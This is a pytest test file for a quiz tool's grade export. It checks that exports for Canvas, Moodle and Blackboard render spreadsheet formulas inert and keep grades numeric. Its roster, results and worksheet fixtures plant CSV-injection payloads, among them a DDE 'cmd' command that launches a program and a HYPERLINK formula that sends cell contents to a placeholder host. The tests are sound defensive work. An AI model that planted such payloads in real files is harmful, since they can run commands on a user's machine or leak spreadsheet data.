"""No grade export holds a live spreadsheet formula, whatever cell it was planted in, and every
grade is still a number that Moodle's and Canvas's importers read as one."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from qkvquiz.cli import app
from qkvquiz.core.csvsafe import csv_text, safe_cell
from qkvquiz.exchange.gradebook import TARGETS, GradeOptions, export_grades
from qkvquiz.exchange.results import load_results
from qkvquiz.roster import read_roster_entries

# Formula openers (OWASP's list and their fullwidth forms) and a number as spreadsheets and
# Moodle's unformat_float read it; written out here, apart from the module under test.
OPENERS = "=+-@\uff1d\uff0b\uff0d\uff20"
NUMBER = re.compile(r"[-+]?(\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?")

EVIL_ID = "=cmd|' /C calc'!A0"
ROSTER = (
    "student,name,email,canvas_id,moodle_id,sis_id,sis_login,section\n"
    'ada,"=HYPERLINK(""http://x/?""&A1,""ok"")",@SUM(1+1),=2,5001,+1+1,=1,-x\n'
    f'"{EVIL_ID.replace(chr(34), chr(34) * 2)}","Lovelace; =cmd|x!A0",a@x.edu,102,5002,S2,evil,"A, @B"\n'
    "@grace,Grace Hopper,g@x.edu,103,5003,S3,ghopper,B\n"
)
RESULTS = {
    "title": "=T", "points": 10,
    "students": [
        {"student": "ada", "score": 7.5, "total": 10, "flags": ["copy of =HYPERLINK(1)", "=other"],
         "parts": [{"part": "=p1", "points": 5, "score": 2.5, "verdict": "partial"},
                   {"part": "-1+2", "points": 5, "score": 5, "verdict": "correct"}]},
        {"student": EVIL_ID, "score": 10, "total": 10, "flags": [],
         "parts": [{"part": "@q", "points": 10, "score": 10, "verdict": "correct"}]},
    ],
    "absent": ["@grace"],
}
# A worksheet as Moodle's "Download grading worksheet" writes it, with formulas in the cells
# Moodle fills from students' profiles and in a column an instructor added.
WORKSHEET = (
    'Identifier,"Full name","Email address",Status,Grade,"Maximum Grade","Grade can be changed",'
    '"Last modified (submission)","Last modified (grade)","Feedback comments",Notes\n'
    '"Participant 5001","=HYPERLINK(""http://x"")",+1 800,Submitted,,10.00,Yes,-,-,,"a;=cmd|x"\n'
    '"Participant 5002",@SUM(A1),e@x.edu," =1+1",,10.00,Yes,-,-,,"line\n=2+2"\n'
    '"Participant 9999","Other Person",o@x.edu,"No submission",-1.5,10.00,Yes,-,-,"=old",+7\n'
    '"Participant 9998","Tab Person",t@x.edu,"\t=1",=1+1,10.00,Yes,-,-,,-0.25\n'
)


def live(piece: str) -> bool:
    """Whether a spreadsheet reading ``piece`` as a cell would run it as a formula."""
    if piece[:1] in ("\t", "\r"):
        return True
    body = piece.lstrip(" \t\r\n\u00a0\"").rstrip()
    return body[:1] != "" and body[:1] in OPENERS and body != "-" and not NUMBER.fullmatch(body)


def live_cells(text: str) -> list[str]:
    """Every cell of ``text`` (read as CSV) that runs, or that has a piece that runs when a reader
    splits it at another delimiter (";", a tab) or at a line break."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            pieces = [cell] + re.split(r"[,;\t\r\n]", cell)[1:]
            if any(live(p) for p in pieces):
                found.append(cell)
    return found


@pytest.fixture()
def planted(tmp_path: Path):
    (tmp_path / "g").mkdir()
    (tmp_path / "g" / "results.json").write_text(json.dumps(RESULTS), encoding="utf-8")
    (tmp_path / "roster.csv").write_text(ROSTER, encoding="utf-8")
    (tmp_path / "worksheet.csv").write_text(WORKSHEET, encoding="utf-8")
    return load_results(tmp_path / "g"), read_roster_entries(tmp_path / "roster.csv"), tmp_path


def grades_by_row(text: str, column: str) -> dict[int, str]:
    rows = list(csv.reader(io.StringIO(text)))
    index = next(i for i, h in enumerate(rows[0]) if h.strip("'").startswith(column))
    return {n: row[index] for n, row in enumerate(rows[1:], start=1)}


@pytest.mark.parametrize("target", TARGETS)
def test_every_target_has_no_live_formula_and_numeric_grades(planted, target):
    results, roster, _ = planted
    text, _ = export_grades(results, roster, GradeOptions(target, assignment_id="44", points_possible=True))
    assert live_cells(text) == []
    assert "'=HYPERLINK" in text  # the planted name is all there, only made inert
    column = {"canvas": "=T", "moodle-worksheet": "Grade", "moodle-gradebook": "=T (Real)",
              "blackboard": "=T", "plain": "grade"}[target]
    grades = list(grades_by_row(text, column).values())
    assert all(NUMBER.fullmatch(g) for g in grades), grades  # as the importers read numbers: bare
    expected = [0.0, 7.5, 10.0] + ([10.0] if target == "canvas" else [])  # + Canvas' "Points Possible"
    assert sorted(float(g) for g in grades) == expected


def test_ids_names_and_flags_stay_readable(planted):
    results, roster, _ = planted
    plain, _ = export_grades(results, roster, GradeOptions("plain"))
    rows = list(csv.reader(io.StringIO(plain)))
    assert [r[0] for r in rows[1:]] == ["ada", "'" + EVIL_ID, "'@grace"]
    ada = rows[1]
    assert ada[2] == "'@SUM(1+1)" and ada[3] == "'+1+1" and ada[6] == "copy of =HYPERLINK(1); '=other"
    canvas, _ = export_grades(results, roster, GradeOptions("canvas"))
    evil = next(r for r in csv.reader(io.StringIO(canvas)) if r[1] == "102")
    assert evil[0] == "'=cmd|x!A0, Lovelace;" and evil[4] == "A, '@B"


def test_feedback_comments_are_inert_on_every_line(planted):
    results, roster, _ = planted
    text, _ = export_grades(results, roster, GradeOptions("moodle-gradebook"))
    comment = list(csv.reader(io.StringIO(text)))[1][5]
    assert "\n'=p1: 2.5/5" in comment and "\n'-1+2: 5/5" in comment  # part ids start lines of the comment
    assert live_cells(text) == []


def test_filled_worksheet_cells_are_inert_and_numbers_stay(planted):
    results, roster, tmp = planted
    text, missing = export_grades(results, roster, GradeOptions("moodle-worksheet"),
                                  worksheet=str(tmp / "worksheet.csv"))
    rows = list(csv.reader(io.StringIO(text)))
    given = list(csv.reader(io.StringIO(WORKSHEET)))
    assert rows[0] == given[0] and len(rows) == len(given)
    # The rows we fill are written anew, every cell inert; the others are Moodle's own lines, byte
    # for byte (its importer would read a changed cell as new feedback).
    assert live_cells("".join(text.splitlines(keepends=True)[1:3])) == []
    assert rows[3:] == given[3:] and text.endswith("\n".join(WORKSHEET.splitlines()[-2:]) + "\n")
    grade = given[0].index("Grade")
    assert [r[grade] for r in rows[1:]] == ["7.5", "10", "-1.5", "=1+1"]  # ours, ours, Moodle's, Moodle's
    assert rows[1][1] == "'=HYPERLINK(\"http://x\")" and rows[1][2] == "'+1 800" and rows[2][1] == "'@SUM(A1)"
    assert rows[2][3] == "' =1+1" and rows[1][10] == "a;'=cmd|x" and rows[2][10] == "line\n'=2+2"
    # Numbers and Moodle's "-" for "no date" stay as Moodle wrote them: its importer reads them back.
    assert [r[5] for r in rows[1:]] == ["10.00"] * 4 and {r[7] for r in rows[1:]} == {"-"}
    assert [(m.student, m.reason) for m in missing] == [("@grace", "the roster's moodle_id has no row in the worksheet")]


def test_cli_export_grades_with_worksheet_writes_no_live_formula(planted):
    _, _, tmp = planted
    out = tmp / "upload.csv"
    result = CliRunner().invoke(app, ["export", "grades", str(tmp / "g"), "--to", "moodle-worksheet", "--roster",
                                      str(tmp / "roster.csv"), "--worksheet", str(tmp / "worksheet.csv"),
                                      "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = out.read_text(encoding="utf-8")
    assert live_cells("".join(written.splitlines(keepends=True)[1:3])) == []  # the rows it filled


def test_the_writer_neutralises_formulas_and_keeps_numbers():
    for formula in ("=1+1", "+A1", "-1+2", "@SUM(A1)", "\t1", " =1", '"=1', "\uff1d1+1", "=", "-x"):
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("\t=1") == "'\t'=1"  # a tab-separated reader sees "" and "=1"
    for number in ("-1.5", "+3", "1e-3", "-1,5", "0", "-0.25", " -2 ", "-1E+5", ".5", "-"):
        assert safe_cell(number) == number
    assert [safe_cell(x) for x in (-1.5, 7, None, "")] == ["-1.5", "7", "", ""]
    assert safe_cell("x;=cmd|x") == "x;'=cmd|x" and safe_cell("1, -2") == "1, -2"
    assert safe_cell("a;'=x") == "a;'=x"  # already inert
    text = csv_text([["=1", -1.5, "ok"]], quote_all=True)
    assert text == '"\'=1","-1.5","ok"\r\n'


def test_an_export_for_an_importer_that_matches_by_id_needs_a_roster(planted):
    # Without a roster no student has the ids Moodle's or Canvas' importer reads: the command
    # refuses (exit 2, nothing written) instead of writing a file that matches no one.
    _, _, tmp = planted
    for target, extra in (("moodle-worksheet", ["--worksheet", str(tmp / "worksheet.csv")]), ("canvas", [])):
        out = tmp / f"upload-{target}.csv"
        result = CliRunner().invoke(app, ["export", "grades", str(tmp / "g"), "--to", target, *extra, "--out", str(out)])
        assert result.exit_code == 2, result.output
        said = " ".join(result.output.split())
        assert f"the {target} importer matches students by" in said and "none was given" in said
        assert not out.exists()
    result = CliRunner().invoke(app, ["export", "grades", str(tmp / "g"), "--to", "plain", "--out", str(tmp / "plain.csv")])
    assert result.exit_code == 0, result.output  # a plain table names students by their ids: no roster needed
